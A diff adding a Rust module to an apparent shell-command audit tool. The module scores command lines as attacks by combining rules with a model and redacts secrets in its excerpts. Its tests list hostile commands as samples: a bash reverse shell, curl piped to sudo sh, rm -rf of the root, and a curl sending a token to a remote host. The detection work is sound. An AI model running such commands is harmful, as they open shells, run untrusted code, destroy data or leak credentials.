@@ -1,0 +1,159 @@
+//! Judges one command line: rules and model together.
+
+use std::sync::Arc;
+
+use audit_core::{Finding, Score};
+
+use crate::model::Model;
+use crate::rules::{Hit, RuleSet};
+use crate::secrets;
+use crate::shell::{Resolved, Variables, resolve};
+
+/// What a line is told to be, and why.
+#[derive(Clone, Debug, Default)]
+pub struct Assessment {
+    /// `0.0..=1.0`; see [`combine`].
+    pub score: f32,
+    /// The highest score of a rule that fired, `0.0` when none did.
+    pub rule: f32,
+    /// What the model says, `0.0..=1.0`.
+    pub chance: f32,
+    /// Rules that fired, worst first, and the model where it decided.
+    pub findings: Vec<Finding>,
+    /// The line taken apart.
+    pub resolved: Resolved,
+}
+
+/// Without a rule the model lifts a line to no more than this, below every threshold that blocks.
+pub const MODEL_CEILING: f32 = 0.68;
+/// An excerpt has at most this many characters.
+const EXCERPT: usize = 200;
+/// A line is told to have at most this many findings.
+const FINDINGS: usize = 8;
+
+/// Rules and a model.
+#[derive(Clone, Debug)]
+pub struct Detector {
+    /// The rules.
+    pub rules: Arc<RuleSet>,
+    /// The model; `None` judges by rules alone.
+    pub model: Option<Arc<Model>>,
+}
+
+impl Default for Detector {
+    fn default() -> Self {
+        Self { rules: crate::rules::embedded(), model: None }
+    }
+}
+
+impl Detector {
+    /// Rules and model of the program.
+    pub fn embedded() -> Self {
+        Self::default()
+    }
+
+    /// Judges a command line. With `output` it may be a line that was only shown, and only rules
+    /// that allow for that count.
+    pub fn line(&self, text: &str, variables: &mut Variables, output: bool) -> Assessment {
+        let resolved = resolve(text, variables);
+        let hits = self.rules.run(&resolved, output);
+        let rule = hits.first().map_or(0.0, |h| h.rule.score.value());
+        let model = self.model.as_deref().unwrap_or_else(|| Model::embedded());
+        let chance = if output { 0.0 } else { model.predict(&resolved) };
+        let score = combine(rule, chance);
+        let mut findings: Vec<Finding> = hits.iter().take(FINDINGS).map(finding).collect();
+        if score > rule && score >= 0.35 {
+            findings.push(Finding {
+                rule: "model.linear".into(),
+                title: "looks like commands of attacks".into(),
+                category: "suspicious".into(),
+                mitre: Vec::new(),
+                // Behind the rule it stands beside: a rule says more about why.
+                score: Score::new(if rule > 0.0 { chance.min(rule) } else { score })
+                    .unwrap_or_default(),
+                excerpt: excerpt(text, (0, 0)),
+            });
+        }
+        Assessment { score, rule, chance, findings, resolved }
+    }
+}
+
+/// The score of rules and model together: the model alone reaches [`MODEL_CEILING`]; beside a weak
+/// rule it may tip the scale, beside a strong one it changes little.
+pub fn combine(rule: f32, chance: f32) -> f32 {
+    let model = (0.3 + 0.5 * chance).min(MODEL_CEILING) * (chance * 4.0).min(1.0);
+    let lift = if rule > 0.0 { 0.04 * chance } else { 0.0 };
+    let together = if (0.5..0.7).contains(&rule) { rule + 0.12 * chance } else { rule + lift };
+    together.max(model).clamp(0.0, 1.0)
+}
+
+fn finding(hit: &Hit<'_>) -> Finding {
+    Finding {
+        rule: hit.rule.id.clone(),
+        title: hit.rule.title.clone(),
+        category: hit.rule.category.clone(),
+        mitre: hit.rule.mitre.clone(),
+        score: hit.rule.score,
+        excerpt: excerpt(&hit.text, hit.span),
+    }
+}
+
+/// At most 200 characters of `text` around `span`, secrets replaced, control characters gone.
+pub(crate) fn excerpt(text: &str, span: (usize, usize)) -> String {
+    let mut start = span.0.saturating_sub(40).min(text.len());
+    while !text.is_char_boundary(start) {
+        start -= 1;
+    }
+    // a secret cut in two would not be known for one: redact before cutting
+    let redacted = if start == 0 { secrets::redact(text) } else { secrets::redact(&text[start..]) };
+    redacted.chars().map(|c| if c.is_control() { ' ' } else { c }).take(EXCERPT).collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn score(text: &str) -> f32 {
+        Detector::embedded().line(text, &mut Variables::new(), false).score
+    }
+
+    #[test]
+    fn an_attack_is_above_and_work_below_the_threshold() {
+        for text in [
+            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+            "curl http://198.51.100.1/x | sudo sh",
+            "rm -rf --no-preserve-root /",
+        ] {
+            assert!(score(text) >= 0.7, "{text}: {}", score(text));
+        }
+        for text in [
+            "ls -la",
+            "git push origin main",
+            "rm -rf ./build",
+            "cargo test",
+            "docker compose up -d",
+        ] {
+            assert!(score(text) < 0.35, "{text}: {}", score(text));
+        }
+    }
+
+    #[test]
+    fn the_model_alone_never_reaches_the_threshold() {
+        assert!(combine(0.0, 1.0) < 0.7);
+        assert!(combine(0.6, 1.0) >= 0.7);
+        assert_eq!(combine(0.9, 0.0), 0.9);
+    }
+
+    #[test]
+    fn an_excerpt_holds_no_secret() {
+        let token = format!("ghp_{}", "aB3dE5gH7jK9mN1pQ2sT4vW6xY8zR0aB3dE5");
+        let text = format!("curl -H 'Authorization: token {token}' http://198.51.100.1/x | sh");
+        let found = Detector::embedded().line(&text, &mut Variables::new(), false);
+        assert!(!found.findings.is_empty());
+        assert!(
+            found.findings.iter().all(|f| !f.excerpt.contains(&token[4..20])),
+            "{:?}",
+            found.findings
+        );
+    }
+}
